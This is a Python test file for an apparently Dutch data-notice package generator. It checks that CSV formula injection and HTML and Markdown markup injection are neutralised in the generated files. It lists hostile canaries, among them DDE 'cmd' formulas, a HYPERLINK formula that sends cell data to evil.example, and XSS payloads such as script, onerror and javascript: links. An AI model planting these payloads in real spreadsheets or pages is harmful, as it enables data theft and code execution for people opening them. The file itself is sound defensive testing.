"""Attack 19: formula injection in CSV and markup injection in HTML and Markdown.

What an attacker writes about themselves (or about somebody who will ask for it) is opened by others in a browser and in
a spreadsheet. First each canary is shown to be dangerous as it is; then it is harmless in every file of the package.
"""

from __future__ import annotations

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from tests.notice_kit import MAP, section, taakveld, written

from waarborg.notice import tables
from waarborg.notice.cells import safe
from waarborg.notice.markdown import to_markdown
from waarborg.notice.package import Package, write_package
from waarborg.notice.page import Bullets, Facts, Page, Para, Section, Table

FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    '"=1+1',
    "'=1+1",
    "|calc",
    "%0A=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><h1>overgenomen</h1>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<!--",
    "</style><script>alert(1)</script>",
    "&lt;script&gt;",
    '<a href="javascript:alert(1)">klik</a>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "\u202eexe.fdp",
    "\x00<b>nul</b>",
]
RUNS = re.compile(r"^[\s\ufeff\u200b'\"]*[=+\-@＝＋－＠|%]|^[\t\r\n]")


class Seen(HTMLParser):
    """The tags, attributes and text of a page as a browser would read them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text.append(data)


KNOWN = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "a",
    "div",
    "header",
    "h1",
    "h2",
    "h3",
    "h4",
    "p",
    "span",
    "nav",
    "ol",
    "li",
    "main",
    "section",
    "ul",
    "dl",
    "dt",
    "dd",
    "table",
    "caption",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}


def make(folder: Path, values: list[str]) -> Package:
    rows = [[(value,) for value in values]]
    wide = (section("app.member", "email", "full_name"), [[(value, value) for value in values]])
    text = written(
        (section("app.comment", "body"), rows * 2), wide, (section("app.rest", "question"), [[(values[0],)]])
    )
    (folder / "answer.json").write_text(text, encoding="utf-8")
    return write_package(folder / "answer.json", folder / "package", taakveld(), MAP, "nl")


def cells(package: Package) -> list[str]:
    found = []
    for name in package.files:
        if name.endswith(".csv"):
            with (package.folder / name).open(encoding="utf-8-sig", newline="") as file:
                found += [cell for row in list(csv.reader(file))[1:] for cell in row]
    return found


def test_attack_19_no_formula_runs(tmp_path: Path) -> None:
    assert all(RUNS.search(value) for value in FORMULAS)
    made = make(tmp_path, FORMULAS)
    found = cells(made)
    assert len(found) == 4 * len(FORMULAS) + 1
    assert all(cell.startswith("'") for cell in found)
    kept = {row["body"] for row in json.loads((made.folder / "data.json").read_text())["data"][0]["rows"]}
    assert kept == set(FORMULAS)


def test_attack_19_without_the_apostrophe_they_would(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "safe", str)
    assert any(cell.startswith("=") for cell in cells(make(tmp_path, FORMULAS)))


def test_attack_19_numbers_stay_numbers() -> None:
    assert [safe(value) for value in (-5, 3.5, "-12.50", "-3", None, True)] == ["-5", "3.5", "-12.50", "-3", "", "true"]
    assert safe("+31612345678") == "'+31612345678"


def test_attack_19_no_markup_of_theirs_becomes_markup_of_ours(tmp_path: Path) -> None:
    made = make(tmp_path, MARKUP * 8)
    pages = [name for name in made.files if name.endswith(".html")]
    assert any(name.startswith("pages/") for name in pages)
    for name in pages:
        seen = Seen()
        seen.feed(text := (made.folder / name).read_text(encoding="utf-8"))
        assert seen.tags <= KNOWN, seen.tags - KNOWN
        assert not {one for one in seen.attributes if one.startswith("on") or one in ("src", "style", "srcset")}
        assert "\u202e" not in text
        assert "\x00" not in text
        assert "default-src 'none'" in text
        assert not re.search(r'href="(?!mailto:|https://|#|[\w./-]+\.html")', text)
    shown = "".join(seen.text)
    assert "<script>alert(1)</script>" in shown


def test_attack_19_without_escaping_it_would(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from waarborg.notice import html

    monkeypatch.setattr(html, "shown", str)
    made = make(tmp_path, MARKUP)
    seen = Seen()
    seen.feed((made.folder / "index.html").read_text(encoding="utf-8"))
    assert {"img", "svg"} & seen.tags


@pytest.mark.parametrize(
    "value", [*MARKUP, "[klik](javascript:alert(1))", "# kop", "- punt", "1. een", "| a | b |", "`code`", "***"]
)
def test_attack_19_markdown_shows_what_was_written(value: str) -> None:
    table = Table("t", ("k",), ((value,),))
    page = Page(
        "nl",
        value,
        (Para(value), Bullets((value,)), Facts(((value, (value,)),)), table, Section(value, (Para(value),))),
    )
    text = to_markdown(page)
    bare = re.sub(r"\\.", "", text)
    assert "<" not in bare
    assert not re.search(r"\[[^\]]*\]\(", bare)
    assert len(re.findall(r"(?m)^#+ ", bare)) == 2
    assert text.count("\n|") == 3 if "\n" not in value else True
